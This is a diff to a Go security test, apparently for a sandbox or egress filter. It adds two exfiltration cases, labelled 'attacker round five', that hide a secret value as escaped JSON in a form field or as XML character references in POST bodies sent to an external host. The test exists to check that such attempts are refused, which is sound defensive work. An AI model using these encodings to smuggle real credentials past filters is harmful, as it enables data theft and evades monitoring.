@@ -285,6 +285,12 @@ func TestCase22_Exfiltration(t *testing.T) {
 		"pct-all":  {"url": "'" + b + "/p/' + " + pctK + " + '?q=' + " + pctK},
 		"json-u":   {"method": "'POST'", "url": quote(b + "/x"), "body": "'{\"k\":\"' + " + strings.ReplaceAll(pctK, "'%'", "'\\\\u00'") + " + '\"}'", "body_type": "'text'"},
 		"pct-body": {"method": "'POST'", "url": quote(b + "/x"), "body": "'k=' + " + pctK, "body_type": "'text'"},
+		// JSON in a form field, percent-escaped; XML character references
+		// (attacker round five).
+		"form-json": {"method": "'POST'", "url": quote(b + "/x"), "body_type": "'text'",
+			"body": "'payload=' + encodeURIComponent('{\"text\":\"' + Array.from(secrets.K).map(c => '\\\\u' + c.charCodeAt(0).toString(16).padStart(4, '0')).join('') + '\"}')"},
+		"xml-refs": {"method": "'POST'", "url": quote(b + "/x"), "body_type": "'text'",
+			"body": "'<a>' + Array.from(secrets.K).map(c => '&#' + c.charCodeAt(0) + ';').join('') + '</a>'"},
 	}
 	for name, cfg := range ways {
 		msg := e.refusedRun("ex-"+name, cfg)
